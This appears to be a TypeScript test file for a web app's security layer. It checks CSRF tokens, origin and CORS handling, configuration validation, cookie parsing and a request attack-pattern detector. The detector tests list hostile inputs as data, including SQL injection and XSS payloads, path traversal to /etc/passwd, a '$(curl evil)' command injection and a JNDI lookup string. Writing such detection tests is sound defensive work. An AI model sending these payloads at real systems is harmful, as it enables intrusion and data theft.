import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { loadSettings } from '../../shared/config/load.ts';
import { attackPatternIn } from '../../shared/domain/attack-pattern.ts';
import { CSRF_LIFETIME_MS, isCsrfToken, makeCsrfToken } from '../../shared/domain/csrf-token.ts';
import { isOwnOrigin } from '../../shared/domain/own-origin.ts';
import { readCookie } from '../../shared/wire/cookies.ts';
import { corsHeaders, preflightHeaders } from '../../shared/wire/cors.ts';

describe('a CSRF token', () => {
  const seal = (value: string) => createHash('sha256').update(value).digest('base64url').slice(0, 24);
  const token = makeCsrfToken('session-1', 'n'.repeat(43), 1_772_668_800_000, seal);
  const now = 1_772_668_800_000;

  it('is good for its session, for 24 hours', () => {
    expect(isCsrfToken(token, 'session-1', now, seal)).toBe(true);
    expect(isCsrfToken(token, 'session-1', now + CSRF_LIFETIME_MS, seal)).toBe(true);
    expect(isCsrfToken(token, 'session-1', now + CSRF_LIFETIME_MS + 1, seal)).toBe(false);
    expect(isCsrfToken(token, 'session-1', now - 1, seal)).toBe(false);
    expect(isCsrfToken(token, 'session-2', now, seal)).toBe(false);
  });

  it.each([
    ['', 'nothing'],
    [token.slice(0, -1), 'a cut seal'],
    [`${token}x`, 'a longer seal'],
    [token.replace(/\.\d+\./, '.1872668800000.'), 'another time'],
    [`m${token.slice(1)}`, 'another nonce'],
    [token.replaceAll('.', '|'), 'another form'],
  ])('is refused when it is %2$s', (forged) => {
    expect(isCsrfToken(forged, 'session-1', now, seal)).toBe(false);
  });
});

describe('the own origin', () => {
  it.each([
    [{ origin: 'https://tank.example.com' }, 'https://tank.example.com', true],
    [{ origin: 'https://tank.example.com.evil.test' }, 'https://tank.example.com', false],
    [{ origin: 'https://evil.test', host: 'evil.test' }, 'https://tank.example.com', false],
    [{ origin: 'http://127.0.0.1:3000', host: '127.0.0.1:3000' }, undefined, true],
    [{ origin: 'http://127.0.0.1:3001', host: '127.0.0.1:3000' }, undefined, false],
    [{ origin: 'null', host: 'null' }, undefined, false],
    [{ host: '127.0.0.1:3000' }, undefined, false],
    [undefined, undefined, false],
  ])('%j with %s: %s', (headers, publicOrigin, own) => {
    expect(isOwnOrigin(headers, publicOrigin ? { publicOrigin } : {})).toBe(own);
  });
});

describe('CORS', () => {
  const ORIGINS = ['https://intranet.example.com'];

  it('names the origin that asked, and only one of the list', () => {
    expect(corsHeaders('https://intranet.example.com', ORIGINS)).toMatchObject({
      'access-control-allow-origin': 'https://intranet.example.com',
      vary: 'Origin',
    });
    for (const origin of [
      undefined,
      'null',
      'https://intranet.example.com.evil.test',
      'https://INTRANET.example.com',
    ])
      expect(corsHeaders(origin, ORIGINS)).toEqual({ vary: 'Origin' });
    expect(corsHeaders('https://intranet.example.com', [])).toEqual({});
  });

  it('lets no cookie travel, and tells methods and headers for an hour', () => {
    const headers = preflightHeaders('https://intranet.example.com', ORIGINS);
    expect(headers).not.toHaveProperty('access-control-allow-credentials');
    expect(headers['access-control-allow-methods']).toBe('GET, POST, PUT, PATCH, DELETE');
    expect(headers['access-control-allow-headers']).toContain('Idempotency-Key');
    expect(headers['access-control-max-age']).toBe('3600');
    expect(preflightHeaders('https://evil.test', ORIGINS)).toEqual({ vary: 'Origin' });
  });
});

describe('settings of the access', () => {
  const faultsOf = (environment: Record<string, string>) => {
    const loaded = loadSettings(environment);
    return loaded.ok ? [] : loaded.faults.map(({ key }) => key);
  };
  const PUBLIC = { TANK_PUBLIC_URL: 'https://tank.example.com' };

  it.each<[string, Record<string, string>, string[]]>([
    [
      'origins as browsers send them',
      { TANK_CORS_ORIGINS: 'https://a.example.com,https://b.example.com:8443' },
      [],
    ],
    ['null', { TANK_CORS_ORIGINS: 'null' }, ['TANK_CORS_ORIGINS']],
    ['a star', { TANK_CORS_ORIGINS: '*' }, ['TANK_CORS_ORIGINS']],
    ['a path', { TANK_CORS_ORIGINS: 'https://a.example.com/' }, ['TANK_CORS_ORIGINS']],
    ['localhost where nobody else comes', { TANK_CORS_ORIGINS: 'http://localhost:5173' }, []],
    [
      'localhost in production',
      { ...PUBLIC, TANK_CORS_ORIGINS: 'http://localhost:5173' },
      ['TANK_CORS_ORIGINS'],
    ],
    ['127.0.0.1 in production', { ...PUBLIC, TANK_CORS_ORIGINS: 'http://127.0.0.1' }, ['TANK_CORS_ORIGINS']],
    ['a public address without TLS', { TANK_PUBLIC_URL: 'http://tank.example.com' }, ['TANK_PUBLIC_URL']],
    ['proxies', { TANK_TRUSTED_PROXIES: 'loopback, cloudflare, 10.0.0.0/8' }, []],
    ['no proxies', { TANK_TRUSTED_PROXIES: 'nginx' }, ['TANK_TRUSTED_PROXIES']],
    ['an impossible range', { TANK_TRUSTED_PROXIES: '10.0.0.0/40' }, ['TANK_TRUSTED_PROXIES']],
    ['wide addresses', { TANK_LIMIT_WIDE_ADDRESSES: '1.2.3.4/33' }, ['TANK_LIMIT_WIDE_ADDRESSES']],
    ['single sign-on without an address', { TANK_SIGN_IN_WITH: 'google' }, ['TANK_PUBLIC_URL']],
    ['a company without an issuer', { ...PUBLIC, TANK_SIGN_IN_WITH: 'company' }, ['TANK_OIDC_ISSUER']],
    [
      'registration for the whole world',
      { ...PUBLIC, TANK_OIDC_REGISTRATION: 'viewer' },
      ['TANK_OIDC_DOMAINS'],
    ],
  ])('%s', (_, environment, faults) => {
    expect(faultsOf(environment)).toEqual(faults);
  });

  it('demand a second factor of owners as soon as others can reach the installation', () => {
    const demands = (environment: Record<string, string>) => {
      const loaded = loadSettings(environment);
      return loaded.ok && loaded.settings.access.ownerSecondFactor;
    };
    expect(demands({})).toBe(false);
    expect(demands(PUBLIC)).toBe(true);
    expect(demands({ ...PUBLIC, TANK_OWNER_SECOND_FACTOR: 'optional' })).toBe(false);
    expect(demands({ TANK_OWNER_SECOND_FACTOR: 'required' })).toBe(true);
  });
});

describe('a cookie', () => {
  it.each([
    [['a=1', '__Host-x=abc'], 'abc'],
    [['__Host-x=abc', '__Host-x=def'], undefined],
    [['__Host-x=a b'], undefined],
    [['x__Host-x=abc'], undefined],
    [[], undefined],
    [undefined, undefined],
  ])('of %j is %s', (cookies, value) => {
    expect(readCookie(cookies, '__Host-x')).toBe(value);
  });
});

describe('an attack pattern', () => {
  it.each([
    "/api/v1/runs?automation=' OR '1'='1",
    '/api/v1/runs?automation=1 UNION SELECT password FROM account',
    "/api/v1/runs/x'; DROP TABLE run --",
    '/api/v1/runs?q=<script>alert(1)</script>',
    '/api/v1/runs?q="><img src=x onerror=alert(1)>',
    '/api/v1/../../../etc/passwd',
    '/.git/config',
    '/wp-login.php',
    '/api/v1/runs?q=$(curl evil)',
    `/api/v1/runs?q=\${jndi:ldap://evil}`,
    "/api/v1/runs?q=1) AND SLEEP('5",
  ])('is seen in %s', (text) => {
    expect(attackPatternIn(text)).toBeDefined();
  });

  it.each([
    '/api/v1/runs?automation=monthly-statement&limit=100',
    '/api/v1/automations/월간 명세서/runs',
    '/api/v1/runs?from=2026-03-05T00:00:00+09:00',
    "/api/v1/users?cursor=O'Brien",
    '/api/v1/automations/select and send/preview',
    '/api/v1/audit?event=sign-in.refused',
  ])('is not seen in %s', (text) => {
    expect(attackPatternIn(text)).toBeUndefined();
  });

  it('is looked for in little time, whatever the text', () => {
    const before = performance.now();
    for (const hard of ["'", '(', ' ', '<', "'  or ", '1 ']) attackPatternIn(hard.repeat(100_000));
    expect(performance.now() - before).toBeLessThan(500);
  });
});
